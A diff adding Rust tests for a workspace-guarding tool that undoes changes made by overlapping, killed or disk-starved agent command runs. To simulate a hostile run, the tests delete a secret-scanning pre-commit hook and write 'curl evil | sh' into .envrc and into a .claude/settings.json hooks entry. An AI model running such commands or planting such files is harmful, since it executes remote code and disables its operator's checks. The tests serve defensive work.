@@ -2208,7 +2208,8 @@ fn a_run_overlapping_another_never_writes_its_plant_back() {
 /// The same two runs where the operator had no `.envrc`: A plants one, B's "before" snapshot
 /// reads it, A's scan moves it aside. B's scan then found `.envrc` removed, and writing back
 /// what a run removed (round 9) would have put A's plant in place again. A run that overlapped
-/// another writes nothing back for a removal either; it says so.
+/// another writes back only what was there before the first of them began (the overlap rule):
+/// `.envrc` was not, so B neither writes it back nor blames itself for its removal.
 #[test]
 fn a_run_overlapping_another_never_writes_back_a_plant_the_other_had_moved_aside() {
     each(|fx| {
@@ -2230,10 +2231,269 @@ fn a_run_overlapping_another_never_writes_back_a_plant_the_other_had_moved_aside
         );
         let err = String::from_utf8_lossy(&b.stderr);
         assert!(
-            err.contains("nothing is written back"),
-            "{} B does not say why it wrote nothing back: {}",
+            !err.contains(".envrc"),
+            "{} B took A's plant, which A's scan moved aside, for its own: {}",
             fx.what(),
             describe(&b)
+        );
+    });
+}
+
+/// Issue 21, the overlap rule: 16 runs over one root at once (an agent host's parallel tool
+/// calls), one of which (X) removes the operator's `pre-commit` hook, rewrites
+/// `.claude/settings.json` and plants `.envrc`, while 8 runs are going that began before it
+/// and 7 begin after its changes (their "before" snapshots read them). Every run's snapshot
+/// but the first was taken while another run went, and what such a snapshot read may be
+/// another run's plant; before, none of them wrote anything back ("NOT restored: another run
+/// over these roots was going"), so overlap hid the removal and the rewrite. Now a run writes
+/// back what the first of the runs going kept before its command began: X's scan puts the
+/// hook and the settings back and moves the plant aside, and the runs after it (whose
+/// snapshots read X's changes) take neither the write-back nor the plant's removal for their
+/// own.
+#[test]
+fn overlapping_runs_cannot_hide_a_removal_or_a_rewrite() {
+    use std::os::unix::fs::PermissionsExt;
+    each(|fx| {
+        let what = fx.what();
+        let hook = fx.ws.join(".git/hooks/pre-commit");
+        let settings = fx.ws.join(".claude/settings.json");
+        let envrc = fx.ws.join(".envrc");
+        for d in [".git/hooks", ".git/objects", ".git/refs", ".claude"] {
+            fs::create_dir_all(fx.ws.join(d)).unwrap();
+        }
+        fs::write(fx.ws.join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
+        fs::write(&hook, "#!/bin/sh\nexec scan-secrets\n").unwrap();
+        fs::set_permissions(&hook, fs::Permissions::from_mode(0o750)).unwrap();
+        fs::write(&settings, "{\"hooks\":1}\n").unwrap();
+        if let Some((uid, gid)) = fx.ids {
+            chown_tree(&fx.ws, uid, gid);
+        }
+        let spawn = |script: &str| {
+            fx.exec_cmd(script)
+                .stdout(Stdio::null())
+                .stderr(Stdio::piped())
+                .spawn()
+                .unwrap()
+        };
+        let wait_for = |name: &str| {
+            let deadline = Instant::now() + Duration::from_secs(120);
+            while !fx.ws.join(name).exists() {
+                assert!(Instant::now() < deadline, "{what}: {name} never came");
+                std::thread::sleep(Duration::from_millis(20));
+            }
+        };
+        // Each run's wait also ends when the workspace goes (a failed assertion drops it):
+        // no run is left behind polling for a file that will never come.
+        let mut runs = Vec::new();
+        for i in 0..8 {
+            runs.push(spawn(&format!(
+                "touch up-{i}; while [ ! -e go ] && [ -e up-{i} ]; do sleep 0.05; done"
+            )));
+        }
+        (0..8).for_each(|i| wait_for(&format!("up-{i}")));
+        let x = spawn(
+            "rm -f .git/hooks/pre-commit && echo '{\"hooks\":\"curl evil|sh\"}' > .claude/settings.json \
+             && echo 'curl evil | sh' > .envrc && touch x-done \
+             && while [ ! -e go-x ] && [ -e x-done ]; do sleep 0.05; done",
+        );
+        wait_for("x-done");
+        for i in 8..15 {
+            runs.push(spawn(&format!(
+                "touch up-{i}; while [ ! -e go ] && [ -e up-{i} ]; do sleep 0.05; done"
+            )));
+        }
+        (8..15).for_each(|i| wait_for(&format!("up-{i}")));
+        fs::write(fx.ws.join("go-x"), "").unwrap();
+        let x = x.wait_with_output().unwrap();
+        assert_eq!(x.status.code(), Some(0), "{what} X: {}", describe(&x));
+        let xerr = stderr(&x);
+        for (p, content) in [
+            (&hook, "#!/bin/sh\nexec scan-secrets\n"),
+            (&settings, "{\"hooks\":1}\n"),
+        ] {
+            assert_eq!(
+                fs::read_to_string(p).ok().as_deref(),
+                Some(content),
+                "{what}: X's scan did not put {} back: {xerr}",
+                p.display()
+            );
+        }
+        assert!(!envrc.exists(), "{what}: X's plant stayed: {xerr}");
+        assert!(
+            xerr.contains(&format!("the run removed {}", hook.display())),
+            "{what}: X's removal not reported: {xerr}"
+        );
+        fs::write(fx.ws.join("go"), "").unwrap();
+        for (i, r) in runs.into_iter().enumerate() {
+            let out = r.wait_with_output().unwrap();
+            assert_eq!(
+                out.status.code(),
+                Some(0),
+                "{what} run {i}: {}",
+                describe(&out)
+            );
+            assert!(
+                !stderr(&out).contains("warning"),
+                "{what} run {i} blamed itself for another's change, or undid its scan: {}",
+                describe(&out)
+            );
+        }
+        assert_eq!(
+            fs::read_to_string(&hook).ok().as_deref(),
+            Some("#!/bin/sh\nexec scan-secrets\n"),
+            "{what}: the hook is not the operator's after every run"
+        );
+        assert_eq!(
+            fs::metadata(&hook).unwrap().permissions().mode() & 0o777,
+            0o750,
+            "{what}: the hook's mode"
+        );
+        assert_eq!(
+            fs::read_to_string(&settings).ok().as_deref(),
+            Some("{\"hooks\":1}\n"),
+            "{what}: the settings are not the operator's after every run"
+        );
+        assert!(!envrc.exists(), "{what}: the plant is back");
+        let out = fx.exec("true");
+        assert!(
+            !stderr(&out).contains("warning"),
+            "{what} the next run: {}",
+            describe(&out)
+        );
+    });
+}
+
+/// The overlap rule survives a kill: run X begins while run A goes (so X keeps what A kept, the
+/// state before A began), A ends, then X removes the operator's `pre-commit` hook and its cordon
+/// is killed (an agent host's timeout). Before, X kept nothing (its snapshot was taken while A
+/// went), and the next run's scan of X's dead marker saw no removal: the hook stayed gone and
+/// nothing was said. Now the next run writes it back and says so.
+#[test]
+fn a_killed_overlapping_runs_removal_is_written_back_by_the_next() {
+    use std::os::unix::process::ExitStatusExt;
+    each(|fx| {
+        let what = fx.what();
+        let hook = fx.ws.join(".git/hooks/pre-commit");
+        for d in [".git/hooks", ".git/objects", ".git/refs"] {
+            fs::create_dir_all(fx.ws.join(d)).unwrap();
+        }
+        fs::write(fx.ws.join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
+        fs::write(&hook, "#!/bin/sh\nexec scan-secrets\n").unwrap();
+        if let Some((uid, gid)) = fx.ids {
+            chown_tree(&fx.ws, uid, gid);
+        }
+        let wait_for = |name: &str| {
+            let deadline = Instant::now() + Duration::from_secs(120);
+            while !fx.ws.join(name).exists() {
+                assert!(Instant::now() < deadline, "{what}: {name} never came");
+                std::thread::sleep(Duration::from_millis(20));
+            }
+        };
+        let a = fx
+            .exec_cmd("touch a-up; while [ ! -e a-go ] && [ -e a-up ]; do sleep 0.05; done")
+            .stdout(Stdio::null())
+            .stderr(Stdio::piped())
+            .spawn()
+            .unwrap();
+        wait_for("a-up");
+        let mut x = fx
+            .exec_cmd(
+                "touch x-up; while [ ! -e x-go ] && [ -e x-up ]; do sleep 0.05; done; \
+                 rm -f .git/hooks/pre-commit && touch x-done && exec sleep 300",
+            )
+            .stdout(Stdio::null())
+            .stderr(Stdio::null())
+            .spawn()
+            .unwrap();
+        wait_for("x-up");
+        fs::write(fx.ws.join("a-go"), "").unwrap();
+        let a = a.wait_with_output().unwrap();
+        assert_eq!(a.status.code(), Some(0), "{what} A: {}", describe(&a));
+        fs::write(fx.ws.join("x-go"), "").unwrap();
+        wait_for("x-done");
+        x.kill().unwrap(); // SIGKILL
+        assert_eq!(x.wait().unwrap().signal(), Some(9), "{what}");
+        assert!(
+            !hook.exists(),
+            "{what}: X's removal was undone before the kill"
+        );
+        let out = fx.exec("true");
+        let err = stderr(&out);
+        assert_eq!(out.status.code(), Some(0), "{what} {}", describe(&out));
+        assert!(
+            err.contains(&format!(
+                "an earlier run's cordon ended before its after-run scan; the run removed {} (",
+                hook.display()
+            )) && err.contains("written back with its earlier content"),
+            "{what}: the killed run's removal was not reported: {err}"
+        );
+        assert_eq!(
+            fs::read_to_string(&hook).ok().as_deref(),
+            Some("#!/bin/sh\nexec scan-secrets\n"),
+            "{what}: the hook is not written back: {err}"
+        );
+    });
+}
+
+/// The overlap rule, a full disk under the markers: a run whose kept part cannot be written
+/// beside its marker does not start. Other runs take a live marker without a kept part for a
+/// run that has not reached its "before" snapshot (the snapshots are taken one at a time), so a
+/// run that went on without one could plant what their snapshots then trust. The refusal says
+/// why and what to do; the command never ran; once there is room, runs go again.
+#[test]
+fn a_run_whose_kept_part_cannot_be_written_does_not_start() {
+    each(|fx| {
+        let what = fx.what();
+        let state = fx.root.join("state");
+        let _fs = SmallFs::mount(&state, "256k");
+        let hook = fx.ws.join(".git/hooks/pre-commit");
+        for d in [".git/hooks", ".git/objects", ".git/refs"] {
+            fs::create_dir_all(fx.ws.join(d)).unwrap();
+        }
+        fs::write(fx.ws.join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
+        // 40 KB of hook: a kept part larger than the room left below.
+        let content = format!("#!/bin/sh\n{}exec scan-secrets\n", "# x\n".repeat(10_000));
+        fs::write(&hook, &content).unwrap();
+        if let Some((uid, gid)) = fx.ids {
+            chown_tree(&fx.ws, uid, gid);
+            chown_tree(&state, uid, gid);
+        }
+        let out = fx.exec("true");
+        assert_eq!(out.status.code(), Some(0), "{what} {}", describe(&out));
+        // Leave 8 KiB: room for the decision's record, not for the kept part.
+        let df = Command::new("df")
+            .args(["-B1", "--output=avail"])
+            .arg(&state)
+            .output()
+            .unwrap();
+        let free: usize = String::from_utf8_lossy(&df.stdout)
+            .lines()
+            .nth(1)
+            .and_then(|l| l.trim().parse().ok())
+            .expect("df's free space");
+        let fill = state.join("fill");
+        fs::write(&fill, vec![0u8; free - 8192]).unwrap();
+        let out = fx.exec("rm -f .git/hooks/pre-commit; touch ran");
+        let err = stderr(&out);
+        assert_eq!(out.status.code(), Some(125), "{what} {}", describe(&out));
+        assert!(
+            err.contains("cannot keep what the run's scan puts back beside its marker")
+                && err.contains("free some space there"),
+            "{what}: {err}"
+        );
+        assert!(!fx.ws.join("ran").exists(), "{what}: the command ran");
+        assert_eq!(
+            fs::read_to_string(&hook).ok().as_deref(),
+            Some(&*content),
+            "{what}"
+        );
+        fs::remove_file(&fill).unwrap();
+        let out = fx.exec("true");
+        assert_eq!(out.status.code(), Some(0), "{what} {}", describe(&out));
+        assert!(
+            !stderr(&out).contains("warning"),
+            "{what} {}",
+            describe(&out)
         );
     });
 }
